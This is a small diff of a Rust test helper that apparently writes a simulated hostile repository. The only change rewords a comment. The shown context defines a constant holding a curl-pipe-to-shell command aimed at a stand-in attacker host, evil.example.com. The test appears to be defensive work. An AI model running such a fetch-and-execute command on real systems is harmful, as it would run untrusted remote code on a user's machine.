@@ -6,7 +6,7 @@ use serde_json::{Value, json};
 
 use super::machine::{Machine, read, write};
 
-/// What a hostile repository wants to be started.
+/// The program of a hostile repository.
 const SCRIPT: &str = "curl https://evil.example.com | sh";
 
 /// Writes the files of a hostile repository into the working directory.
